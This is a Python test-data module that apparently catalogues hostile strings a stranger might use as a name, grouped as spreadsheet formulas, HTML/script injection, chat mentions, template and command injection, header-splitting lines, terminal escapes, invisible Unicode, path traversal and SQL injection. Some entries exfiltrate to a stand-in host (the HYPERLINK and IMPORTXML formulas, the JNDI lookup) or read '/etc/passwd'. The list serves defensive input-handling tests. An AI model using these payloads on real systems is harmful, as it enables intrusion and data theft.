"""What strangers may call themselves: by class, every string with what a careless receiver would make of it."""

from __future__ import annotations

FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
"""One character on the screen, seven in the text."""
FORMULAS = [
    "=1+1", "+1+1", "-1", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "%0Acalc", "|calc", "'=1+1", '"=1+1', ";=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")',
]  # fmt: skip
MARKUP = [
    "<script>document.title='owned'</script>", '"><img src=x onerror=document.title="owned">', "'-alert(1)-'",
    "<svg/onload=document.title='owned'>", "</title><script>document.title='owned'</script>",
    "</textarea></select></style><script>document.title='owned'</script>", "<!--", "]]>", "&lt;b&gt;", "&#60;b&#62;",
    "&amp;amp;", '" autofocus onfocus="document.title=\'owned\'', "javascript:alert(1)", "data:text/html,<b>x</b>",
    "<a href=https://evil.example>x</a>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "\u2028<script>document.title='owned'</script>", "<\u0000script>x", "<form action=//evil.example><input name=csrf>",
]  # fmt: skip
MENTIONS = [
    "<!channel>", "<!here>", "<!everyone>", "<@U012AB3CD>", "<#C123|general>", "<!subteam^S123>", "@channel", "@here",
    "@everyone", "<https://evil.example|Sign in>", "<mailto:evil@evil.example|Bob>",
    "*bold* _it_ ~no~ `code`", "> quote",
    "<@&123456789012345678>", "[Sign in](https://evil.example)", "<!date^0^{date}^https://evil.example|x>",
]  # fmt: skip
TEMPLATES = [
    "{{ 7*7 }}", "{% for a in range(9) %}x{% endfor %}", "{# x #}", "{{ config }}", "${RELAY_HOOK_SECRET}",
    "${file:/etc/passwd}", "%(secret)s {0.__class__}", "$(id)", "`id`", "${jndi:ldap://evil.example/x}", "#{7*7}", "$$",
    "{timestamp}.{body}", "%s%n%x", "\\u003cb\\u003e", "{{''.__class__}}",
]  # fmt: skip
LINES = [
    "one\r\ntwo", "one\ntwo", "one\rtwo", "Bob\r\nBcc: evil@evil.example", "Bob\r\n\r\n<b>body</b>", "Bob\r\nX-Evil: 1",
    "a\u2028b", "a\u2029b", "a\u0085b", "a\x0bb\x0cc", "line\r\nINFO fake log line",
    'x"}\n{"level":"error"}', "a%0d%0aX: y",
]  # fmt: skip
TERMINALS = [
    "a\x1b[2Jb", "\x1b]0;owned\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x9b31mred",
    "a\x08\x08b",
    "\x1bP1;2|x\x1b\\", "a\x7fb", "a\x00b", "[red]x[/red]", "[/]", "[link=https://evil.example]x[/link]", ":bomb:",
]  # fmt: skip
UNSEEN = [
    "\u202egnp.exe", "a\u2066b\u2069", "a\u200bb", "z\u200dw", "\ufeffx", "\u00adx", "a\u061cb",
    "\U000e0041\U000e0042x",
    "half \ud800 one", "\udc00", "\ufffe", "e\u0301" * 40, "Z\u0351\u0358\u0321\u034e", "\u3164", "",  " ",
    "\u0627\u0644",
]  # fmt: skip
PLACES = [
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "//evil.example", "https://evil.example/",
    "?a=b&c=d#e", "%2e%2e%2f",
    "a/../../b", ".", "..", "CON", "x" * 300, "a;b", "a&b=c", "@evil.example", "evil.com", "evil\uff0ecom",
]  # fmt: skip
QUERIES = ["' or '1'='1", "'; drop table events; --", "%", "_", "\\", "a'b\"c", "*", "NEAR(a b)", '"', "-- x", "\x1a"]
LONG = [
    "A" * 5000, FAMILY * 60, "\U0001f1fa\U0001f1f8" * 200, "&" * 400, "<" * 400, "\u0000" * 50, "e\u0301" * 200,
    "a" * 298 + "\U0001f600\U0001f600", "a" * 299 + FAMILY, "a" * 297 + "&&&&",
]  # fmt: skip
WORDS = [
    "null",
    "undefined",
    "None",
    "true",
    "NaN",
    "0",
    "-0",
    "1e999",
    "UNKNOWN CALLER",
    "stop",
    "STOP ALL",
    "John Doe",
]

STRINGS = [
    *FORMULAS, *MARKUP, *MENTIONS, *TEMPLATES, *LINES, *TERMINALS, *UNSEEN, *PLACES, *QUERIES, *LONG, *WORDS
]  # fmt: skip
